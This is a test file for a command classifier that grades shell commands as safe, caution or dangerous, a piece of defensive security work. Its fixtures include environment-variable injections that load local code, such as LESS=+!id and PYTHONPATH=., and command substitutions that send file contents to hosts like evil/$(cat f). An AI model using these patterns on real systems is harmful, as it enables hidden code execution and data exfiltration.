import { describe, expect, test } from 'vitest';
import { classify } from '#server/classifier/classify.ts';
import { DOORS } from '#server/classifier/tools/doors.ts';

describe('a word of a reader that does more than read', () => {
	for (const { examples } of DOORS) {
		const [door, reader] = examples;
		test(door, () => {
			const { tier, reasons } = classify(door);
			expect(tier).not.toBe('safe');
			expect(reasons.map((r) => r.tier)).toContain('caution');
		});
		test(`${reader} reads`, () => expect(classify(reader).tier).toBe('safe'));
	}
});

describe('settings of a tool before a reader', () => {
	test.each([
		'PYTHONPATH=. python3 -m json.tool a.json',
		'PERL5LIB=. exiftool a.jpg',
		'GIT_DIR=./other git status',
		'LESS=+!id less notes',
		'KUBECONFIG=./x kubectl get pods',
		'npm_config_script_shell=./x npm ls',
		'env GST_PLUGIN_PATH=. gst-inspect-1.0',
		'MANOPT=-Px man ls',
		'TAR_OPTIONS=--to-command=x tar -tf a.tar',
		'LD_DEBUG_OUTPUT=/tmp/x ls',
		'export PYTHONPATH=.; python3 -m json.tool a.json',
		'declare -x HELM_PLUGINS=./x; helm list',
		'HOME=/tmp/x git status'
	])('%s is at least caution, and counts as running code', (command) => {
		const { tier, reading } = classify(command);
		expect(tier).toBe('caution');
		expect(reading.own_programs).toBe(true);
	});
	test.each([
		'LC_ALL=C sort notes',
		'PYTHONUNBUFFERED=1 python3 -m json.tool a.json',
		'PYTHONPATH=/usr/lib/python3/dist-packages python3 -m json.tool a.json',
		'KUBECONFIG=~/.kube/prod kubectl get pods',
		'KUBECONFIG=/etc/rancher/k3s/k3s.yaml kubectl get pods',
		'GIT_AUTHOR_NAME=me git log',
		'LESS=-R less notes',
		'AWS_PROFILE=prod aws s3 ls',
		'PYTHONPATH=.; echo "$PYTHONPATH"',
		'export GEM_HOME=~/gems; echo "$GEM_HOME"',
		'FOO=bar ls'
	])('%s stays safe', (command) => expect(classify(command).tier).toBe('safe'));
});

describe('a place made of data of this machine', () => {
	test.each([
		['docker manifest inspect evil/$(cat f)', 'dangerous'],
		['skopeo inspect docker://x.example/$(cat f)', 'dangerous'],
		['restic -r sftp:$(cat f) snapshots', 'dangerous'],
		['zypper --plus-repo=https://x.example/$(cat f) search y', 'dangerous'],
		['conda search "$(cat f)"', 'caution'],
		['dnf --releasever="$(id)" list', 'caution'],
		['snap info "$(cat f)"', 'caution'],
		['apptainer inspect library://x/$(id)', 'caution']
	] as const)('%s is %s', (command, tier) => expect(classify(command).tier).toBe(tier));
	test.each([
		'docker manifest inspect nginx:1.27',
		'apt-cache policy "$(dpkg -S /bin/ls | cut -d: -f1)"',
		'grep "https://$(hostname)/" notes',
		'echo "https://x.example/$(cat f)"'
	])('%s stays safe', (command) => expect(classify(command).tier).toBe('safe'));
});

describe('what a compiler prints', () => {
	test.each([
		'gcc -E -Iinclude -DX=1 -std=c17 -Wall a.c',
		'gcc -MM -MP -MT x.o a.c',
		'gcc -march=native -Q --help=target',
		'g++ -fsyntax-only -fno-exceptions -O2 a.cpp'
	])('%s reads', (command) => expect(classify(command).tier).toBe('safe'));
	test.each([
		'gcc -specs=./s -v',
		'gcc -E -MMD a.c',
		'gcc -E -Wp,-MD,out a.c',
		'gcc -fsyntax-only -fdump-tree-all a.c',
		'gcc -fsyntax-only -fdiagnostics-format=sarif-file a.c',
		'clang -Xclang -load -Xclang ./x.so -fsyntax-only a.c',
		'gcc -E -oout a.c'
	])('%s does more', (command) => expect(classify(command).tier).not.toBe('safe'));
});

describe('devices and pipes of the kernel', () => {
	test.each([
		'cat /proc/kmsg',
		'grep x < /proc/kmsg',
		'head -1 /sys/kernel/tracing/trace_pipe',
		'cat /dev/input/event0',
		'cat /sys/kernel/debug/dri/0/i915_forcewake_user',
		'cat /dev/ttyS0'
	])('%s is at least caution', (command) => expect(classify(command).tier).toBe('caution'));
	test.each([
		'head -c 16 /dev/urandom',
		'cat /proc/meminfo',
		'cat /sys/kernel/debug/usb/devices',
		'ls -l /dev/input/event0',
		'cat < /dev/null'
	])('%s stays safe', (command) => expect(classify(command).tier).toBe('safe'));
});
